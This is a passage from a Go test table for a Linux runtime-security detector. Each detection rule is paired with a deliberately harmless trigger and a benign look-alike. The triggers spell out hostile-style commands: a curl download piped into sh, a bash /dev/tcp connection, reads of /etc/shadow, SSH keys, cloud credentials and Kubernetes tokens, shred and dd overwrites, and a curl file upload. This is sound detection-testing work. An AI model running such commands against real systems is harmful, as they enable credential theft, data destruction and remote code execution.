			trigger: act(func(x *actx) { x.cexec(false, "/bin/cp /bin/busybox /tmp/"+x.marker) }),
			benign:  act(func(x *actx) { x.cexec(false, "/bin/cp /etc/passwd /tmp/"+x.marker) }),
		},
		{
			rule:    "Container Runtime Socket Connected From Container",
			trigger: act(func(x *actx) { x.cexec(false, "/lnr/lnr-helper do "+x.marker+" connectunix /lnr/docker.sock") }),
			benign:  act(func(x *actx) { x.cexec(false, "/lnr/lnr-helper do "+x.marker+" connectunix /lnr/app.sock") }),
		},
		{
			rule:    "Network Client Stdio Redirected To Socket",
			trigger: act(func(x *actx) { x.h("nc", "dupsock", x.e.host) }),
			benign:  act(func(x *actx) { x.h("lnrclient", "dupsock", x.e.host) }),
			cannot:  map[string]string{"audit": auditNoDupFD},
		},
		{
			rule: "Execution From Shared Memory",
			trigger: actSetup(func(x *actx) {
				p := "/dev/shm/" + x.marker
				copyFile(x.t, "/usr/bin/true", p, 0o755)
				x.removeLater(p)
			}, func(x *actx) { x.run("/dev/shm/" + x.marker) }),
			benign: actSetup(func(x *actx) { copyFile(x.t, "/usr/bin/true", x.path(""), 0o755) },
				func(x *actx) { x.run(x.path("")) }),
		},
		{
			rule: "Kernel Module Loaded By Unexpected Program",
			trigger: actSetup(func(x *actx) { x.write(x.path(".ko"), "module\n", 0o644) },
				func(x *actx) { x.h("lnrmodload", "finit", x.path(".ko")) }),
			benign: actSetup(func(x *actx) { x.write(x.path(".ko"), "module\n", 0o644) },
				func(x *actx) { x.h("modprobe", "finit", x.path(".ko")) }),
			kernelTypes: []string{"init_module", "finit_module"},
		},
		{
			rule:    "Ptrace Code Injection",
			trigger: act(func(x *actx) { x.h("lnrinject", "ptrace", "inject", fmt.Sprint(x.e.sleeper)) }),
			benign:  act(func(x *actx) { x.h("gdb", "ptrace", "inject", fmt.Sprint(x.e.sleeper)) }),
			also:    []string{"Ptrace Attach To Process"},
		},
		{
			rule:    "Kernel Execution Hook Modified",
			trigger: act(func(x *actx) { x.h("lnrhook", "openw", "/proc/sys/kernel/core_pattern") }),
			benign:  act(func(x *actx) { x.h("lnrhook", "open", "/proc/sys/kernel/core_pattern") }),
		},
		{
			rule:    "Process Memory Opened Through Procfs",
			trigger: act(func(x *actx) { x.h("lnrmem", "open", fmt.Sprintf("/proc/%d/mem", x.e.sleeper)) }),
			benign:  act(func(x *actx) { x.h("lnrmem", "open", "/proc/self/mem") }),
		},
		{
			// An empty /etc/ld.so.preload preloads nothing; the helper
			// removes it at once.
			rule:    "Dynamic Linker Preload File Modified",
			trigger: act(func(x *actx) { x.createrm("lnrpreload", "/etc/ld.so.preload") }),
			benign:  act(func(x *actx) { x.createrm("dpkg", "/etc/ld.so.preload") }),
		},
		{
			rule:    "Account Database Modified Directly",
			trigger: act(func(x *actx) { x.h("lnracctdb", "openw", "/etc/passwd") }),
			benign:  act(func(x *actx) { x.h("vipw", "openw", "/etc/passwd") }),
		},
		{
			rule:    "Write Below Etc",
			trigger: act(func(x *actx) { x.createrm("lnretc", "/etc/"+x.marker+".conf") }),
			benign:  act(func(x *actx) { x.createrm("ldconfig", "/etc/"+x.marker+".conf") }),
		},
		{
			rule:    "Write Below Binary Directory",
			trigger: act(func(x *actx) { x.createrm("lnrbin", "/usr/local/bin/"+x.marker) }),
			benign:  act(func(x *actx) { x.createrm("pip", "/usr/local/bin/"+x.marker) }),
		},
		{
			rule:    "Package Database Modified Outside Package Manager",
			trigger: act(func(x *actx) { x.createrm("lnrpkgdb", "/var/lib/dpkg/"+x.marker) }),
			benign:  act(func(x *actx) { x.createrm("dpkg", "/var/lib/dpkg/"+x.marker) }),
		},
		{
			rule:    "Non-Device File Created Under Dev",
			trigger: act(func(x *actx) { x.createrm("lnrdev", "/dev/"+x.marker) }),
			benign:  act(func(x *actx) { x.sh("echo x >/dev/null") }),
		},
		// ----- WARNING
		{
			rule:    "Privileged Container Started",
			trigger: act(func(x *actx) { x.dockerStart("--privileged") }),
			benign:  act(func(x *actx) { x.dockerStart() }),
		},
		{
			rule:    "Container Started With Sensitive Host Mount",
			trigger: act(func(x *actx) { x.dockerStart("-v", "/proc:/host/proc:ro") }),
			benign:  act(func(x *actx) { x.dockerStart("-v", x.dir+":/data:ro") }),
		},
		{
			rule:    "Package Manager Run In Container",
			trigger: act(func(x *actx) { x.cexec(false, "/usr/bin/dpkg >/dev/null 2>&1") }),
			benign:  act(func(x *actx) { x.cexec(false, "/usr/bin/dpkg-deb >/dev/null 2>&1") }),
		},
		{
			rule:    "Privilege Switch Binary Run In Container",
			trigger: act(func(x *actx) { x.cexec(false, "/bin/su -c true") }),
			benign: actSetup(func(x *actx) {
				x.csetup("printf '#!/bin/sh\\n/bin/su -c true\\n' >/tmp/entrypoint.sh; chmod +x /tmp/entrypoint.sh")
			}, func(x *actx) { x.cexec(false, "/tmp/entrypoint.sh") }),
		},
		{
			rule:    "Host Access Tool Run In Container",
			trigger: act(func(x *actx) { x.cexec(false, "/bin/mount -t tmpfs none /mnt 2>/dev/null") }),
			benign:  act(func(x *actx) { x.cexec(false, "/bin/mount >/dev/null") }),
		},
		{
			rule:    "Shell Spawned By Web Server",
			trigger: act(func(x *actx) { x.h("nginx", "spawn", "/bin/sh", "-c", "true") }),
			benign:  act(func(x *actx) { x.h("nginx", "spawn", "/bin/sh", "-c", ": rotatelogs /var/log/app 86400") }),
		},
		{
			rule:    "Download Piped Into Shell",
			trigger: act(func(x *actx) { x.run("/bin/sh", "-c", "curl -s http://127.0.0.1:1/"+x.marker+" | sh") }),
			benign:  act(func(x *actx) { x.run("/bin/sh", "-c", "curl -s -o /dev/null http://127.0.0.1:1/"+x.marker) }),
		},
		{
			rule: "Shell Opened Network Connection",
			trigger: act(func(x *actx) {
				x.run("bash", "-c", ": "+x.marker+"; exec 3<>/dev/tcp/"+testHostIP+"/8080")
			}),
			benign: act(func(x *actx) {
				x.run("bash", "-c", ": "+x.marker+"; exec 3<>/dev/tcp/"+strings.Replace(x.e.loopback, ":", "/", 1))
			}),
		},
		{
			rule:    "Connection To Mining Pool Port",
			trigger: act(func(x *actx) { x.h("lnrclient", "connect", x.e.minerPort) }),
			benign:  act(func(x *actx) { x.h("lnrclient", "connect", x.e.host) }),
		},
		{
			rule:    "System Utility Opened Network Connection",
			trigger: act(func(x *actx) { x.h("ls", "connect", x.e.host) }),
			benign:  act(func(x *actx) { x.h("ls", "connect", x.e.loopback) }),
		},
		{
			rule:    "Tunneling Tool Run",
			trigger: act(func(x *actx) { x.run(x.e.program(x.t, "ngrok"), "http", "8080") }),
			benign:  act(func(x *actx) { x.run("true", "ngrok", "http", "8080") }),
		},
		{
			rule:    "Private Key Search",
			trigger: act(func(x *actx) { x.run("find", x.dir, "-name", "id_rsa") }),
			benign:  act(func(x *actx) { x.run("find", x.dir, "-name", "*.go") }),
		},
		{
			// systemctl fails here (PID 1 is not systemd), after its exec.
			rule:    "Security Control Disabled",
			trigger: act(func(x *actx) { x.run("systemctl", "stop", "lanner-"+x.marker+".service") }),
			benign:  act(func(x *actx) { x.run("systemctl", "status", "lanner-"+x.marker+".service") }),
		},
		{
			rule: "Log Or History Wiping Command",
			trigger: actSetup(func(x *actx) { x.write(x.path(".txt"), "data\n", 0o644) },
				func(x *actx) { x.run("shred", "-u", x.path(".txt")) }),
			benign: actSetup(func(x *actx) { x.write(x.path(".txt"), "data\n", 0o644) },
				func(x *actx) { x.run("truncate", "-s", "0", x.path(".txt")) }),
		},
		{
			// oflag=nocreat: no such device exists, dd fails to open it.
			rule:    "Block Device Overwritten",
			trigger: act(func(x *actx) { x.run("dd", "if=/dev/zero", "of=/dev/sd-"+x.marker, "count=0", "oflag=nocreat") }),
			benign:  act(func(x *actx) { x.run("dd", "if=/dev/zero", "of="+x.path(".img"), "count=1") }),
		},
		{
			rule:    "Preload Library From Writable Directory",
			trigger: act(func(x *actx) { x.h("lnrrun", "spawnenv", "LD_PRELOAD="+x.path(".so"), "/usr/bin/true") }),
			benign: act(func(x *actx) {
				x.h("lnrrun", "spawnenv", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/bin/true")
			}),
			cannot: map[string]string{"audit": auditNoEnv},
		},
		{
			rule:    "Setuid Root By Unexpected Program",
			trigger: act(func(x *actx) { x.h("lnrsetuid", "setuid0") }),
			benign:  act(func(x *actx) { x.h("sudo", "setuid0") }),
		},
		{
			rule:    "Root Requested By Non-Root Process",
			trigger: act(func(x *actx) { x.h("lnrregain", "dropregain") }),
			benign:  act(func(x *actx) { x.h("lnrregain", "drop") }),
			also:    []string{"Setuid Root By Unexpected Program"},
		},
		{
			rule: "Setuid Or Setgid Bit Set",
			trigger: actSetup(func(x *actx) { x.write(x.path(""), "", 0o755) },
				func(x *actx) { x.run("chmod", "u+s", x.path("")) }),
			benign: actSetup(func(x *actx) { x.write(x.path(""), "", 0o644) },
				func(x *actx) { x.run("chmod", "u+x", x.path("")) }),
		},
		{
			rule:    "BPF Program Loaded By Unexpected Program",
			trigger: act(func(x *actx) { x.h("lnrbpf", "bpf", "prog") }),
			benign:  act(func(x *actx) { x.h("lnrbpf", "bpf", "map") }),
		},
		{
			rule:    "Userfaultfd Used By Non-Root",
			trigger: act(func(x *actx) { x.hAs(65534, "lnruffd", "uffd") }),
			benign:  act(func(x *actx) { x.h("lnruffd", "uffd") }),
		},
		{
			rule:    "Ptrace Attach To Process",
			trigger: act(func(x *actx) { x.h("lnrattach", "ptrace", "attach", fmt.Sprint(x.e.sleeper)) }),
			benign:  act(func(x *actx) { x.h("strace", "ptrace", "attach", fmt.Sprint(x.e.sleeper)) }),
		},
		{
			rule:    "Credential Store Read By Untrusted Program",
			trigger: act(func(x *actx) { x.run("cat", "/etc/shadow") }),
			benign:  act(func(x *actx) { x.h("unix_chkpwd", "open", "/etc/shadow") }),
		},
		{
			rule: "SSH Private Key Read By Unexpected Program",
			trigger: actSetup(func(x *actx) { x.write(homeSSH(x)+"/id_"+x.marker, "key\n", 0o600) },
				func(x *actx) { x.run("cat", homeSSH(x)+"/id_"+x.marker) }),
			benign: actSetup(func(x *actx) { x.write(homeSSH(x)+"/id_"+x.marker+".pub", "key\n", 0o644) },
				func(x *actx) { x.run("cat", homeSSH(x)+"/id_"+x.marker+".pub") }),
		},
		{
			rule:    "Process Environment Read By Another Program",
			trigger: act(func(x *actx) { x.run("cat", fmt.Sprintf("/proc/%d/environ", x.e.sleeper)) }),
			benign:  act(func(x *actx) { x.run("cat", "/proc/self/environ") }),
		},
		{
			rule: "Service Account Token Read By Shell Utility",
			trigger: act(func(x *actx) {
				x.cexec(false, "/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null")
			}),
			benign: act(func(x *actx) {
				x.cexec(false, "/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/ca.crt >/dev/null")
			}),
		},
		{
			rule: "SSH Authorized Keys Modified",
			trigger: actSetup(func(x *actx) { os.MkdirAll(x.dir+"/home/.ssh", 0o700) },
				func(x *actx) { x.createrm("lnrkeys", x.dir+"/home/.ssh/authorized_keys") }),
			benign: actSetup(func(x *actx) { os.MkdirAll(x.dir+"/home/.ssh", 0o700) },
				func(x *actx) { x.createrm("cloud-init", x.dir+"/home/.ssh/authorized_keys") }),
		},
		{
			// cron reads no file whose name has a dot in /etc/cron.d.
			rule:    "Cron Configuration Modified",
			trigger: act(func(x *actx) { x.createrm("lnrcron", "/etc/cron.d/"+x.marker+".disabled") }),
			benign:  act(func(x *actx) { x.createrm("crontab", "/etc/cron.d/"+x.marker+".disabled") }),
		},
		{
			rule:    "Systemd Unit File Written",
			trigger: act(func(x *actx) { x.createrm("lnrunit", "/etc/systemd/system/"+x.marker+".service") }),
			benign:  act(func(x *actx) { x.createrm("systemctl", "/etc/systemd/system/"+x.marker+".service") }),
		},
		{
			rule:    "Shell Startup File Modified",
			trigger: act(func(x *actx) { x.createrm("lnrprofile", "/etc/profile.d/"+x.marker+".sh") }),
			benign:  act(func(x *actx) { x.creatermTTY("vim", "/etc/profile.d/"+x.marker+".sh") }),
		},
		{
			rule: "Hard Link To Sensitive File",
			trigger: act(func(x *actx) {
				x.run("ln", "/etc/shadow", x.path("-link"))
				os.Remove(x.path("-link"))
			}),
			benign: act(func(x *actx) { x.run("ln", "/etc/hostname", x.path("-link")) }),
		},
		{
			rule:    "Symbolic Link To Sensitive File",
			trigger: act(func(x *actx) { x.run("ln", "-s", "/etc", x.path("-link")) }),
			benign:  act(func(x *actx) { x.run("ln", "-s", "/etc/hostname", x.path("-link")) }),
		},
		{
			rule: "System Log Cleared",
			trigger: actSetup(func(x *actx) {
				x.write("/var/log/"+x.marker+".log", "log\n", 0o644)
				x.removeLater("/var/log/" + x.marker + ".log")
			},
				func(x *actx) { x.run("rm", "/var/log/"+x.marker+".log") }),
			benign: actSetup(func(x *actx) {
				x.write("/var/log/"+x.marker+".log", "log\n", 0o644)
				x.removeLater("/var/log/" + x.marker + ".log")
			},
				func(x *actx) { x.h("logrotate", "spawn", "rm", "/var/log/"+x.marker+".log") }),
		},
		{
			rule: "Shell History Cleared",
			trigger: actSetup(func(x *actx) { x.write(x.path("_history"), "ls\n", 0o600) },
				func(x *actx) { x.run("rm", x.path("_history")) }),
			benign: actSetup(func(x *actx) { x.write(x.path("_history.txt"), "ls\n", 0o600) },
				func(x *actx) { x.run("rm", x.path("_history.txt")) }),
		},
		// ----- NOTICE
		{
			rule:    "Terminal Shell In Container",
			trigger: act(func(x *actx) { x.cexec(true, "true") }),
			benign:  act(func(x *actx) { x.cexec(false, "true") }),
		},
		{
			rule:    "Network Tool Run In Container",
			trigger: act(func(x *actx) { x.cexec(false, "/usr/bin/nc >/dev/null 2>&1") }),
			benign:  act(func(x *actx) { x.cexec(false, "/usr/bin/wget --help >/dev/null 2>&1") }),
		},
		{
			rule: "Execute Permission Added In Container",
			trigger: actSetup(func(x *actx) { x.csetup("touch /tmp/" + x.marker) },
				func(x *actx) { x.cexec(false, "/bin/chmod +x /tmp/"+x.marker) }),
			benign: actSetup(func(x *actx) { x.csetup("touch /tmp/" + x.marker) },
				func(x *actx) { x.cexec(false, "/bin/chmod 600 /tmp/"+x.marker) }),
		},
		{
			// The test host's network namespace holds 169.254.169.254 too.
			rule:    "Cloud Metadata Service Contacted From Container",
			trigger: act(func(x *actx) { x.ctrInTestHost("/lnr/lnr-helper do " + x.marker + " connect 169.254.169.254:80") }),
			benign:  act(func(x *actx) { x.ctrInTestHost("/lnr/lnr-helper do " + x.marker + " connect " + x.e.host) }),
		},
		{
			rule: "Remote Access Client Run In Container",
			trigger: actSetup(func(x *actx) { x.csetup("ln -s /bin/busybox /tmp/ssh") },
				func(x *actx) { x.cexec(false, "/tmp/ssh 2>/dev/null") }),
			benign: act(func(x *actx) { x.run("ssh", "-V") }),
		},
		{
			rule:    "Unexpected Child Of Server Process",
			trigger: act(func(x *actx) { x.h("nginx", "spawn", "id") }),
			benign:  act(func(x *actx) { x.h("nginx", "spawn", x.e.program(x.t, "rotatelogs")) }),
		},
		{
			rule:    "Network Scanner Run On Host",
			trigger: act(func(x *actx) { x.run(x.e.program(x.t, "nmap"), "-sT", "127.0.0.1") }),
			benign: actSetup(func(x *actx) { x.csetup("ln -s /bin/busybox /tmp/nmap") },
				func(x *actx) { x.cexec(false, "/tmp/nmap 2>/dev/null") }),
			benignAlso: []string{"Network Tool Run In Container"},
		},
		{
			rule:    "Interactive Shell From Package Manager",
			trigger: act(func(x *actx) { x.hTTY("apt", "spawn", "/bin/sh", "-i") }),
			benign:  act(func(x *actx) { x.hTTY("apt", "spawn", "/bin/sh", "-c", "true") }),
		},
		{
			rule:    "Account Change Command Run",
			trigger: act(func(x *actx) { x.run("passwd", "-S", "root") }),
			benign:  act(func(x *actx) { x.h("dpkg", "spawn", "passwd", "-S", "root") }),
		},
		{
			rule: "File Timestamp Manipulation",
			trigger: actSetup(func(x *actx) { x.write(x.path(""), "", 0o644) },
				func(x *actx) { x.run("touch", "-d", "2020-01-01", x.path("")) }),
			benign: actSetup(func(x *actx) { x.write(x.path(""), "", 0o644) },
				func(x *actx) { x.run("touch", x.path("")) }),
		},
		{
			rule: "File Upload With Transfer Tool",
			trigger: actSetup(func(x *actx) { x.write(x.path(".txt"), "data\n", 0o644) },
				func(x *actx) { x.run("curl", "-s", "-T", x.path(".txt"), "http://127.0.0.1:1/") }),
			benign: act(func(x *actx) { x.run("curl", "-s", "-o", x.path(".out"), "http://127.0.0.1:1/") }),
		},
		{
			rule:    "Cloud Storage Sync Tool Run",
			trigger: act(func(x *actx) { x.run(x.e.program(x.t, "rclone"), "copy", x.dir, "remote:backup") }),
			benign:  act(func(x *actx) { x.run("true", "rclone", "copy", x.dir, "remote:backup") }),
		},
		{
			rule: "Kernel Module Loaded Interactively",
			trigger: actSetup(func(x *actx) { x.write(x.path(".ko"), "module\n", 0o644) },
				func(x *actx) { x.hTTY("insmod", "finit", x.path(".ko")) }),
			benign: actSetup(func(x *actx) { x.write(x.path(".ko"), "module\n", 0o644) },
				func(x *actx) { x.h("insmod", "finit", x.path(".ko")) }),
			kernelTypes: []string{"init_module", "finit_module"},
		},
		{
			rule:    "Namespace Change By Unexpected Program",
			trigger: act(func(x *actx) { x.h("lnrns", "unshare") }),
			benign:  act(func(x *actx) { x.h("unshare", "unshare") }),
		},
		{
			// PTRACE_TRACEME (request 0) from perl, which then exits.
			rule:    "Anti-Debugging With PTRACE_TRACEME",
			trigger: act(func(x *actx) { x.run("perl", "-e", "syscall(101, 0, 0, 0, 0); # "+x.marker) }),
			benign:  act(func(x *actx) { x.h("gdb", "spawn", "perl", "-e", "syscall(101, 0, 0, 0, 0); # "+x.marker) }),
		},
		{
			rule: "Cloud Credentials Read By Unexpected Program",
			trigger: actSetup(func(x *actx) { x.write(x.dir+"/home/.aws/credentials", "[default]\n", 0o600) },
				func(x *actx) { x.run("cat", x.dir+"/home/.aws/credentials") }),
			benign: actSetup(func(x *actx) { x.write(x.dir+"/home/.aws/credentials", "[default]\n", 0o600) },
				func(x *actx) { x.h("aws", "open", x.dir+"/home/.aws/credentials") }),
		},
		{
			rule:    "Write Below Root Home",
			trigger: act(func(x *actx) { x.createrm("lnrroothome", "/root/"+x.marker+".txt") }),
			benign:  act(func(x *actx) { x.createrm("lnrroothome", "/root/.cache/"+x.marker+".txt") }),
		},
		{
			rule:    "Deceptive Directory Created",
			trigger: act(func(x *actx) { x.run("mkdir", x.dir+"/...") }),
			benign:  act(func(x *actx) { x.run("mkdir", x.dir+"/.cache") }),
		},
		{
			rule: "Ransom-Style File Rename",
			trigger: actSetup(func(x *actx) { x.write(x.path(".doc"), "data\n", 0o644) },
				func(x *actx) { x.run("mv", x.path(".doc"), x.path(".doc.locked")) }),
			benign: actSetup(func(x *actx) { x.write(x.path(".doc"), "data\n", 0o644) },
				func(x *actx) { x.run("mv", x.path(".doc"), x.path(".doc.bak")) }),
		},
	}
}

// homeSSH is a user's .ssh directory made for the test, removed after it.
func homeSSH(x *actx) string {
	home := fmt.Sprintf("/home/lanner-rules-%d", os.Getpid())
	if _, err := os.Stat(home); err != nil {
		if err := os.MkdirAll(home+"/.ssh", 0o700); err != nil {
			x.t.Fatal(err)
		}
		x.t.Cleanup(func() { os.RemoveAll(home) })
	}
	return home + "/.ssh"
}
